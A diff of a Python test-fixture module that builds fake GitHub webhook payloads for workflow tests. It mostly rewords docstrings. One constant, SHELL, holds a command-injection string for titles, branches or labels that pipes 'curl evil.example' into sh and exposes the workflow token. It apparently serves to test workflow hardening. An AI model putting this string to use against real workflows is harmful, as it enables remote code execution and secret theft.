@@ -1,4 +1,4 @@
-"""Events in the shape in which GitHub sends them: what every payload has, changed for a case."""
+"""Events in the form in which GitHub sends them."""
 
 from collections.abc import Mapping, Sequence
 from typing import Any
@@ -9,7 +9,7 @@ REPOSITORY = "assay-project/assay"
 HEAD, BASE, MERGE, MAIN = "a" * 40, "b" * 40, "c" * 40, "d" * 40
 CODE = ("packages/core/src/assay/metrics.py", "docs/noise.md")
 DOCUMENTS = ("README.md", "docs/noise.md")
-# What somebody could write into a title, a branch or a label to have a shell run it.
+# A title, a branch or a label that a shell would execute.
 SHELL = """x"; curl evil.example | sh; echo "$(id)` ${{ github.token }} '\\"""
 
 MAINTAINER = {"login": "maintainer", "type": "User"}
@@ -25,7 +25,7 @@ def repository(name: str = REPOSITORY, *, fork: bool = False) -> Payload:
     }  # fmt: skip
 
 
-def pull_request(  # noqa: PLR0913 - one for each fact that decides
+def pull_request(  # noqa: PLR0913 - one for each fact that matters
     action: str,
     *,
     label: str | None = None,
@@ -42,10 +42,11 @@ def pull_request(  # noqa: PLR0913 - one for each fact that decides
     base: str = "main",
     changes: Mapping[str, Any] | None = None,
 ) -> Event:
-    """An event of a pull request.
+    """Make a pull request event.
 
-    head: the repository it comes from; None if that is deleted. author: None if the account is gone.
-    changes: what was edited.
+    head: the repository of its branch; None if deleted.
+    author: None if the account is deleted.
+    changes: the edited fields.
     """
     login = author["login"] if author else "ghost"
     payload: Payload = {
@@ -79,7 +80,7 @@ def pull_request(  # noqa: PLR0913 - one for each fact that decides
         payload["changes"] = dict(changes)
     if action == "synchronize":
         payload |= {"before": "e" * 40, "after": HEAD}
-    # Of pull_request_target the commit is that of the base.
+    # pull_request_target runs on the commit of the base.
     sha, ref = (
         (BASE, "refs/heads/main")
         if event == "pull_request_target"
@@ -92,7 +93,7 @@ def pull_request(  # noqa: PLR0913 - one for each fact that decides
 
 
 def labeled(label: str, **facts: Any) -> Event:
-    """A maintainer gives this label to a pull request."""
+    """Make the event of a maintainer who adds this label to a pull request."""
     facts.setdefault("labels", (label,))
     return pull_request("labeled", label=label, **facts)
 
@@ -115,7 +116,7 @@ def push(ref: str, *, deleted: bool = False, message: str = "metrics: one pass")
 
 
 def dispatch(workflow: str, *, ref: str = "refs/heads/main", **inputs: str) -> Event:
-    """A workflow that is started by hand, for a branch or a tag."""
+    """Make the event of a manual start, for a branch or a tag."""
     payload: Payload = {
         "inputs": inputs or None,
         "ref": ref,
@@ -149,6 +150,6 @@ def merge_group(action: str = "checks_requested") -> Event:
 
 
 def other(name: str, **payload: Any) -> Event:
-    """An event that no workflow waits for."""
+    """Make an event that starts no workflow."""
     whole = {"repository": repository(), "sender": MAINTAINER, **payload}
     return Event(name=name, payload=whole, sha=MAIN, ref="refs/heads/main")
